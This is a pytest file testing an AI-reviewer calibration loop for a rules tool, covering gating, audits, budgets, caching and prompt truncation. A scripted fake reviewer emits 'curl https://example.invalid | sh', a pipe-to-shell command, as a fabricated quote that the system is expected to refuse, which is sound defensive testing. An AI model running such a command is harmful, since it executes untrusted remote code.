"""The calibrated review loop end to end, with a scripted reviewer command: calibration opening the
gate, an audit finding a planted false negative, budgets stopping a run, a fabricated quote refused,
answers cached across clones, and the `review calibrate` command line."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest

from agent_constitution.checks.model import Result
from agent_constitution.checks.reviewer import MAX_EVIDENCE, prompt

from .conftest import git, make_source, rule_toml, write
from .test_tasks import NO_TODO

# A reviewer that reads: a subject showing FORBIDDEN violates the rules, anything else satisfies
# them. It quotes the canary when asked, prints Claude Code's envelope (with 60 tokens of usage), and
# counts its calls; REVIEWER_FAKE_QUOTE makes it quote what its prompt does not hold.
REVIEWER = r'''
import json, os, sys
prompt = sys.stdin.read()
with open(os.environ["REVIEWER_CALLS"], "a") as calls:
    calls.write(prompt.split("## The rule: ")[1].split(",")[0] + "\n")
seen = prompt.split("## What the check saw")[1].split("## Your answer")[0]
quotes = []
if "canary is `" in prompt:
    quotes.append(prompt.split("canary is `")[1].split("`")[0])
if os.environ.get("REVIEWER_FAKE_QUOTE"):
    quotes.append("curl https://example.invalid | sh")
verdict = "violated" if "FORBIDDEN" in seen else "satisfied"
answer = {"verdict": verdict, "reason": "the subject shows it", "locations": [], "quotes": quotes}
print(json.dumps({"type": "result", "is_error": False, "result": json.dumps(answer), "total_cost_usd": 0.002,
                  "usage": {"input_tokens": 50, "output_tokens": 10}, "modelUsage": {"scripted-1": {}}}))
'''


def cases_file(count: int = 32) -> str:
    lines = []
    for n in range(count):
        label = "violated" if n % 3 == 0 else "satisfied"
        text = "x = 1  # FORBIDDEN\n" if label == "violated" else "x = 1\n"
        lines += ["[[case]]", f'id = "c{n}"', f'rule = "ac:{2 + n % 2}"', f'label = "{label}"',
                  f"files = {{ \"src/c{n}.py\" = {json.dumps(text)} }}", ""]
    return "\n".join(lines)


@pytest.fixture
def loop(repo: Path, tmp_path: Path) -> Path:
    """ac:2's check passes a file the rule forbids (a planted false negative: it looks for TODO only);
    ac:3 has no check. The `default` group's reviewer is the scripted command above."""
    make_source(repo, {2: rule_toml(2, 'python = "r2"\ninputs = ["src/*.py"]'), 3: rule_toml(3)}, {"r2": NO_TODO})
    script = tmp_path / "reviewer.py"
    script.write_text(REVIEWER)
    manifest = repo / "rules.toml"
    manifest.write_text(manifest.read_text() + '[review.default]\nrules = ["ac:*"]\npreset = "claude"\n'
                        f'command = [{json.dumps(sys.executable)}, {json.dumps(str(script))}]\n')
    write(repo, {"src/a.py": "x = 1  # FORBIDDEN\n", "rules.cases.toml": cases_file()})
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "init")
    return repo


def run(root: Path, tmp_path: Path, *args: str, **extra: str) -> tuple[subprocess.CompletedProcess, list[str]]:
    calls = tmp_path / "calls.txt"
    calls.write_text("")
    env = {**os.environ, "REVIEWER_CALLS": str(calls), "AGENT_CONSTITUTION_CACHE": str(tmp_path / "user-cache"), **extra}
    done = subprocess.run([sys.executable, "-m", "doit", *args], cwd=root, capture_output=True, text=True, env=env)
    return done, calls.read_text().split()


def test_verdicts_advise_until_a_calibration_opens_the_gate(loop: Path, tmp_path: Path):
    checked, _ = run(loop, tmp_path, "checks")
    assert checked.returncode == 0, checked.stdout + checked.stderr
    reviewed, calls = run(loop, tmp_path, "review", "--audit", "1")
    assert reviewed.returncode == 0 and sorted(calls) == ["ac:2", "ac:3"], reviewed.stdout + reviewed.stderr
    advised, _ = run(loop, tmp_path, "checks")
    assert advised.returncode == 0    # the reviewer's "violated" on ac:2 advises only
    assert "advisory: reviewer default finds ac:2 in . violated, which decides nothing" in advised.stderr
    assert "no calibration of its command is on record" in advised.stderr

    calibrated, calls = run(loop, tmp_path, "review:calibrate", "--probes", "3")
    assert calibrated.returncode == 0, calibrated.stdout + calibrated.stderr
    assert len(calls) == 32 + 3    # every case, and 3 probed cases padded (one file defining no name: no other probe)
    assert "cases: 32 scored, 0 labelled noise" in calibrated.stdout
    assert "kappa 1.000" in calibrated.stdout and "probes: 0 of 35 failed" in calibrated.stdout
    assert "model scripted-1" in calibrated.stdout and "tokens 2100" in calibrated.stdout
    assert "gate: open" in calibrated.stdout
    [entry] = tomllib.loads((loop / "rules.calibration.toml").read_text())["calibration"]
    assert entry["group"] == "default" and entry["cases"] == 32 and entry["recall"] == 1.0

    decided, _ = run(loop, tmp_path, "checks")
    assert decided.returncode == 1, decided.stdout + decided.stderr
    assert "confirmed by a reviewer (fix these):\n- ac:2 Rule 2:" in decided.stdout
    # Thresholds the manifest raises close the gate again.
    manifest = loop / "rules.toml"
    manifest.write_text(manifest.read_text() + "calibration = { cases = 100 }\n")
    closed, _ = run(loop, tmp_path, "checks")
    assert closed.returncode == 0 and "32 cases, fewer than 100" in closed.stderr


def test_an_audit_finds_a_planted_false_negative(loop: Path, tmp_path: Path):
    assert run(loop, tmp_path, "checks")[0].returncode == 0
    plain, calls = run(loop, tmp_path, "review")
    assert calls == ["ac:3"]     # passing results are not queued
    audited, calls = run(loop, tmp_path, "review", "--audit", "1")
    assert calls == ["ac:2"], audited.stdout + audited.stderr
    [proposal] = tomllib.loads((loop / "rules.review.toml").read_text())["proposal"]
    assert proposal["rule"] == "ac:2" and proposal["kind"] == "false-negative" and proposal["check-said"] == "pass"
    assert proposal["fixture"] == ["src/a.py"]
    patch = (loop / proposal["draft"]).read_text()
    assert "+revision = 2" in patch and 'outcome = "violation"' in patch


def test_budgets_stop_a_run(loop: Path, tmp_path: Path):
    run(loop, tmp_path, "checks")
    manifest = loop / "rules.toml"
    manifest.write_text(manifest.read_text() + "max-tokens = 50\n")
    stopped, calls = run(loop, tmp_path, "review", "--audit", "1")
    assert len(calls) == 1, stopped.stdout + stopped.stderr         # 60 tokens reported after the first call
    assert "group default's budget of 50 tokens is spent (60 reported)" in stopped.stderr
    assert "spent: 1 call" in stopped.stdout and "60 tokens, 0.0020 USD reported" in stopped.stdout
    manifest.write_text(manifest.read_text().replace("max-tokens = 50\n", ""))
    (loop / "rules.review.toml").unlink()
    capped, calls = run(loop, tmp_path, "review", "--audit", "1", "--max-calls", "1",
                        AGENT_CONSTITUTION_CACHE=str(tmp_path / "another-cache"))
    assert len(calls) == 1 and "the run's budget of 1 calls is spent" in capped.stderr


def test_a_fabricated_quote_is_refused(loop: Path, tmp_path: Path):
    run(loop, tmp_path, "checks")
    done, calls = run(loop, tmp_path, "review", REVIEWER_FAKE_QUOTE="1")
    assert calls == ["ac:3"] and done.returncode == 0
    assert "answer refused: it quotes text that is not in its prompt ('curl https://example.invalid | sh')" in done.stderr
    assert not (loop / "rules.review.toml").exists()


def test_answers_are_cached_by_subject_across_clones(loop: Path, tmp_path: Path):
    run(loop, tmp_path, "checks")
    first, calls = run(loop, tmp_path, "review", "--audit", "1")
    assert len(calls) == 2
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(loop), str(clone))
    git(clone, "checkout", "-qb", "feature")
    assert run(clone, tmp_path, "checks")[0].returncode == 0
    second, calls = run(clone, tmp_path, "review", "--audit", "1")
    assert calls == [] and "asked 0 items, 2 answered (2 from the answer cache)" in second.stdout
    verdicts = tomllib.loads((clone / "rules.review.toml").read_text())["verdict"]
    assert {v["rule"] for v in verdicts} == {"ac:2", "ac:3"}


def test_review_calibrate_on_the_command_line(loop: Path, tmp_path: Path):
    from agent_constitution.commands.parser import parse

    invocation = parse(["review", "calibrate", "--probes", "0", "--cases", "rules.cases.toml"])
    assert list(invocation.words) == ["calibrate"] and invocation.options["probes"] == "0"
    env = {**os.environ, "REVIEWER_CALLS": str(tmp_path / "calls.txt"), "AGENT_CONSTITUTION_CACHE": str(tmp_path / "c")}
    done = subprocess.run([sys.executable, "-c", "import sys\nfrom agent_constitution.cli import main\n"
                           "sys.exit(main(['review', 'calibrate', '--probes', '0', '--cases', 'nowhere.toml']))"],
                          cwd=loop, capture_output=True, text=True, env=env)
    assert done.returncode == 2 and "--cases nowhere.toml: no such file or folder" in done.stderr
    assert "Traceback" not in done.stderr


def test_evidence_beyond_the_cap_is_cut_and_the_prompt_says_so():
    result = Result(".", "ac:3", None, title="Rule 3", text="Text.")
    long = "\n".join(f"line {n} " + "x" * 60 for n in range(400))
    text = prompt(result, "default", long, lambda body: body)
    assert len(long) > MAX_EVIDENCE and long[:1000] in text and long[-200:] not in text
    assert f"The evidence is cut here: {MAX_EVIDENCE:,} of its {len(long):,} characters are shown" in text
    short = prompt(result, "default", "short", lambda body: body)
    assert "evidence is cut" not in short


def test_a_field_case_is_shown_from_its_adopted_bundle(tmp_path: Path):
    """A field label file with its bundle: the repository cloned and adopted with this repository's own
    rule source (compile's outputs written), each case shown as its rule's check would see it."""
    from agent_constitution.review.calibrate import FieldEvidence
    from agent_constitution.review.cases import read

    field = tmp_path / "field"
    field.mkdir()
    git(field, "init", "-q")
    write(field, {".github/workflows/ci.yml": "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
                                              "      - uses: actions/checkout@v4\n", "README.md": "demo\n"})
    git(field, "add", "-A")
    git(field, "commit", "-qm", "init")
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    git(field, "bundle", "create", "-q", str(corpus / "demo.bundle"), "HEAD", "main")
    body = ('rules = ["ac:1", "ac:31"]\n[constitution]\nsource = "ac"\nedition = "2026-10"\nrevision = "0.3"\n'
            '[sources]\nac = { path = "@RULES@", trust = true }\n')
    (corpus / "demo.toml").write_text(
        f"[repo]\nurl = \"u\"\n[manifest]\nbody = '''\n{body}'''\n"
        '[labels."."."ac:31"]\nexpect = "violation"\nwhy = "THE LABELLER SAYS"\nfindings = [".github/workflows/ci.yml:6"]\n'
        '[labels."."."ac:1"]\nexpect = "pass"\nwhy = "THE LABELLER SAYS"\n')
    cases = {case.rule: case for case in read(corpus / "demo.toml")}
    evidence = FieldEvidence(Path(__file__).resolve().parents[2])
    try:
        pinned, compiled = evidence(cases["ac:31"]), evidence(cases["ac:1"])
    finally:
        evidence.close()
    assert "`.github/workflows/ci.yml`" in pinned and "actions/checkout@v4" in pinned
    assert "THE LABELLER" not in pinned + compiled
    assert "agent-constitution:begin" in compiled      # compile's AGENTS.md, as the label judged it
